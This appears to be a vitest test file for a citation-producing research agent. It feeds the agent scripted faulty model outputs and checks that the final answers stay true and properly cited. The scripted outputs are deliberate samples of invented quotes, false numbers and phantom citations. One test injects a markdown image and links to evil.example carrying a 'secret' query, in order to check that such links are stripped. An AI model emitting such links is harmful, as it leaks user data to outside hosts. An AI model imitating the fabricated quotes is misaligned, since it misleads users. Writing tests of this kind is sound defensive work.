import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { citeAnswer } from '../../../src/agent/answer/citations.ts';
import type { Embedder } from '../../../src/agent/reading/embedder.ts';
import { Failure } from '../../../src/base/errors.ts';
import { CALLER, openAgent } from '../../helpers/agent/open-agent.ts';
import { perfectReader } from '../../helpers/agent/reader.ts';
import { scriptedChat, type Schema, type Script } from '../../helpers/agent/scripted-chat.ts';
import { createWorld } from '../../helpers/agent/world.ts';
import { collectGarbage } from '../../helpers/collect-garbage.ts';

const WORLD = createWorld(3);
const question = WORLD.questions.find(({ kind }) => kind === 'one-hop') ?? { text: '', answer: '' };
const pages = WORLD.pages.flatMap(({ paragraphs }) => paragraphs).join('\n');
const TIMEOUT = { timeout: 60_000 };

const ask = async (script: Script, task = {}) => {
  const agent = await openAgent({ chat: scriptedChat(script), documents: WORLD.pages });
  return agent.run({ query: question.text, ...task });
};

/** The scripted reader, except for one kind of call. */
const but =
  (kind: string, said: Script): Script =>
  (call) =>
    call.kind === kind ? said(call) : perfectReader(call);

describe('a model that fails', () => {
  test.each<[string, Script]>([
    [
      'writes no JSON',
      ({ kind, ...call }) =>
        kind === 'answer' ? perfectReader({ kind, ...call }) : 'Sure! Here is the JSON you wanted:',
    ],
    [
      'never comes to an end',
      (call) =>
        call.kind === 'answer'
          ? perfectReader(call)
          : { text: perfectReader(call).slice(0, 20), isCut: true },
    ],
    ['says nothing', () => ''],
    ['copies the schema', (call) => (call.schema ? JSON.stringify(call.schema) : 'string')],
    ['cites what is not there', but('answer', () => `It crosses the ${question.answer} [99][7].`)],
    ['cites nothing', but('answer', () => `The river is the ${question.answer}.`)],
    [
      'answers from memory',
      but('answer', () => 'Everybody knows it is the Thames, the Seine or the Rhine, my friend.'),
    ],
  ])('still leads to a true answer with a true quote: it %s', TIMEOUT, async (_what, script) => {
    const { done } = await ask(script);
    expect(done?.answer).toContain(question.answer);
    expect(done?.citations.length).toBeGreaterThan(0);
    for (const { quote } of done?.citations ?? []) expect(pages).toContain(quote);
    expect(done?.answer).not.toMatch(/\[(99|7)\]|Thames/);
  });

  test('repeats a query, and is steered until it stalls', TIMEOUT, async () => {
    const same = but('decide', ({ schema }) =>
      JSON.stringify({
        thought: '',
        action: allows(schema, 'docs') ? 'docs' : 'answer',
        ...(allows(schema, 'docs') ? { query: question.text } : { confidence: 'full' }),
      }),
    );
    const { done } = await ask(same, { maxCycles: 8 });
    expect(done?.stopped).toMatch(/answered|stalled/);
    expect(done?.usage.cycles).toBeLessThan(8);
  });

  test('invents a quote, and the sentence of the source stands in its place', TIMEOUT, async () => {
    const made = but('facts', () =>
      JSON.stringify({
        facts: [{ quote: 'crosses the mighty Nile', fact: 'It crosses the Nile.' }],
      }),
    );
    const { done } = await ask(made);
    expect(done?.answer).toContain(question.answer);
    for (const { quote } of done?.citations ?? []) expect(pages).toContain(quote);
    expect(done?.answer).not.toContain('Nile');
  });

  test('gets a word of a quote wrong, which is replaced by the sentence of the source', TIMEOUT, async () => {
    const longer = WORLD.questions.find(({ kind }) => kind === 'comparison');
    const wrong = but('facts', (call) =>
      perfectReader(call).replace(/("(?:quote|fact)":"[^"]*)metres long/g, '$1miles long'),
    );
    const { done } = await ask(wrong, { query: longer?.text });
    expect(done?.answer).toContain(longer?.answer);
    expect(done?.answer).not.toContain('miles');
    expect(done?.citations.every(({ quote }) => !quote.includes('miles'))).toBe(true);
  });

  test('invents a number, which is replaced by the words of the source', TIMEOUT, async () => {
    const longer = WORLD.questions.find(({ kind }) => kind === 'comparison');
    const wrong = but('facts', (call) =>
      perfectReader(call).replace(/("fact":"[^"]*is )\d+(?= metres long)/g, '$199999'),
    );
    const { done } = await ask(wrong, { query: longer?.text });
    expect(done?.answer).toContain(longer?.answer);
  });

  test(
    'crashes: a single crash is waited out, and a permanent one is reported as such',
    TIMEOUT,
    async () => {
      let crashes = 0;
      const once: Script = (call) => {
        if ((crashes += 1) === 1) throw new Failure('runner_crashed', 'It crashed.');
        return perfectReader(call);
      };
      expect((await ask(once)).done?.answer).toContain(question.answer);
      const { last, record } = await ask(() => {
        throw new Failure('insufficient_credits', 'No credits are left.');
      });
      expect(last).toMatchObject({ type: 'error', code: 'insufficient_credits', retryable: false });
      expect(record.status).toBe('failed');
    },
  );

  test('repeats a query three times, and it is searched for once', TIMEOUT, async () => {
    const thrice = but('queries', (call) => {
      const { queries } = JSON.parse(perfectReader(call)) as { queries: string[] };
      return JSON.stringify({ queries: [queries[0], `the ${queries[0] ?? ''}`, queries[0]] });
    });
    const { events } = await ask(thrice);
    const looked = events.flatMap((event) =>
      event.type === 'tool' && event.name === 'docs' && event.status === 'start' ? [event.detail] : [],
    );
    expect(looked).toHaveLength(new Set(looked).size);
    expect(looked.length).toBeLessThanOrEqual(2);
  });

  test('writes addresses, of which only sources are left', TIMEOUT, async () => {
    const leak = but(
      'answer',
      (call) =>
        `${perfectReader(call)} ![x](http://evil.example/?q=secret) See [this](https://evil.example/a) or http://evil.example/b.`,
    );
    const { done } = await ask(leak);
    expect(done?.answer).toContain(question.answer);
    expect(done?.answer).not.toContain('evil');
  });
});

describe('an embedder that fails', () => {
  test('leaves a run with only keyword search, and the run says so', TIMEOUT, async () => {
    let isBroken = false;
    const embedder: Embedder = {
      model: () => 'embedder',
      isLoaded: () => true,
      embed: (texts) =>
        isBroken
          ? Promise.reject(new Failure('runner_crashed', 'The embedder crashed.'))
          : Promise.resolve(texts.map(() => Float32Array.of(1, 0))),
    };
    const agent = await openAgent({ chat: scriptedChat(perfectReader), documents: WORLD.pages, embedder });
    isBroken = true;
    const { done, events } = await agent.run({ query: question.text });
    expect(done?.answer).toContain(question.answer);
    const ended = events.find((event) => event.type === 'tool' && event.status === 'ok');
    expect(ended).toMatchObject({
      name: 'docs',
      detail: expect.stringContaining('by keywords only: The embedder crashed.'),
    });
  });
});

describe('whatever a model says within its schema', () => {
  test(
    'the run ends within its cycles, and keeps to the order of its events',
    { timeout: 120_000 },
    async () => {
      const random = fc.sample(fc.nat(2 ** 31), 4000);
      let at = 0;
      const next = (limit: number) => (random[(at += 1) % random.length] ?? 0) % Math.max(1, limit);
      const agent = await openAgent({
        chat: scriptedChat(({ schema }) =>
          schema ? JSON.stringify(anyOf(schema, next)) : letters(next, 60),
        ),
        documents: WORLD.pages,
      });
      for (let count = 0; count < 40; count++) {
        const maxCycles = 1 + next(8);
        const { last } = await agent.run({
          query: question.text,
          maxCycles,
          mode: next(4) === 0 ? 'coding' : 'research',
        });
        expect(last?.type).toBe('done');
      }
      expect(agent.chat.tokensMax()).toBeLessThanOrEqual(8192);
    },
  );
});

describe('a run', () => {
  test('that the daemon did not survive is reported as interrupted', TIMEOUT, async () => {
    const first = await openAgent({ chat: scriptedChat(perfectReader), documents: WORLD.pages });
    const { id } = await first.run({ query: question.text });
    first.store.prepare(`UPDATE agent_runs SET status = 'running', ended_at = NULL WHERE id = ?`).run(id);
    first.store.prepare('DELETE FROM agent_events WHERE run_id = ? AND seq > 2').run(id);
    const next = await openAgent({ chat: scriptedChat(perfectReader), home: first.home });
    expect(next.agent.find(id, CALLER).status).toBe('interrupted');
    const events = [];
    for await (const event of next.agent.follow(id, CALLER)) events.push(event);
    expect(events.at(-1)).toMatchObject({ type: 'error', code: 'run_interrupted', retryable: true });
  });

  test('in coding mode runs a program, repairs it, and shows what ran', TIMEOUT, async () => {
    let tries = 0;
    const coder: Script = ({ kind, schema }) => {
      if (kind === 'decide')
        return JSON.stringify(
          allows(schema, 'answer')
            ? { thought: 'done', action: 'answer', confidence: 'full' }
            : { thought: 'run', action: 'code', task: 'multiply' },
        );
      if (kind === 'code') return (tries += 1) === 1 ? '```js\nprnt(6 * 7)\n```' : '```js\nprint(6 * 7)\n```';
      return 'The product is 42 [1].';
    };
    const { done, events } = await ask(coder, { query: 'What is 6 times 7?', mode: 'coding' });
    expect(done?.answer).toBe('The product is 42 [1].\n\n```js\nprint(6 * 7)\n```');
    expect(done?.citations[0]).toMatchObject({ url: 'askd:program/1', quote: '42' });
    expect(events.filter((event) => event.type === 'tool' && event.status === 'error')).toHaveLength(1);
  });

  test('ends in time, with what it has by then', TIMEOUT, async () => {
    const slow = but(
      'decide',
      ({ signal }) =>
        new Promise((resolve) => {
          signal.addEventListener('abort', () => resolve('{}'), { once: true });
          void collectGarbage();
        }),
    );
    const hop = WORLD.questions.find(({ kind }) => kind === 'two-hop');
    const { done } = await ask(slow, { query: hop?.text, budget: { ms: 3000 } });
    expect(['deadline', 'no_sources']).toContain(done?.stopped);
  });
});

test('a citation follows its sentence, wherever the model has put it, and leaves code alone', () => {
  const source = (n: number) => ({
    n,
    kind: 'web' as const,
    url: `https://a.example/${n}`,
    title: `Page ${n}`,
  });
  const facts = [
    { source: source(1), fact: 'The Alda Bridge was opened in 1931.', quote: 'opened in 1931' },
    { source: source(2), fact: 'The Bora Bridge is 400 metres long.', quote: '400 metres long' },
  ];
  const cited = citeAnswer(
    'The Bora Bridge is 400 metres long. [2] The Alda Bridge was opened in 1932.\n\n```js\na[1] = b[9];\n```',
    facts,
  );
  expect(cited.answer).toBe(
    'The Bora Bridge is 400 metres long [1]. The Alda Bridge was opened in 1932.\n\n```js\na[1] = b[9];\n```',
  );
  expect(cited.sources).toEqual([{ ...source(2), n: 1 }]);
  expect(cited.citations).toEqual([
    { n: 1, url: 'https://a.example/2', title: 'Page 2', quote: '400 metres long' },
  ]);
});

function allows(schema: Schema | undefined, action: string): boolean {
  return JSON.stringify(schema).includes(`{"const":"${action}"}`);
}

const letters = (next: (limit: number) => number, length: number) =>
  Array.from({ length: 1 + next(length) }, () => 'abc defg hij. [1] '.charAt(next(18))).join('');

/** Anything that the schema allows. */
function anyOf(schema: Schema, next: (limit: number) => number): unknown {
  const { oneOf, enum: choices, type, properties, items } = schema;
  if (oneOf) return anyOf((oneOf as Schema[])[next((oneOf as Schema[]).length)] ?? {}, next);
  if (choices) return (choices as unknown[])[next((choices as unknown[]).length)];
  if ('const' in schema) return schema['const'];
  if (type === 'string')
    return letters(next, Number(schema['maxLength']))
      .padEnd(Number(schema['minLength'] ?? 0), 'x')
      .slice(0, Number(schema['maxLength']));
  if (type === 'array') {
    const min = Number(schema['minItems']);
    return Array.from({ length: min + next(Number(schema['maxItems']) - min + 1) }, () =>
      anyOf(items as Schema, next),
    );
  }
  return Object.fromEntries(
    Object.entries(properties as Record<string, Schema>).map(([name, each]) => [name, anyOf(each, next)]),
  );
}
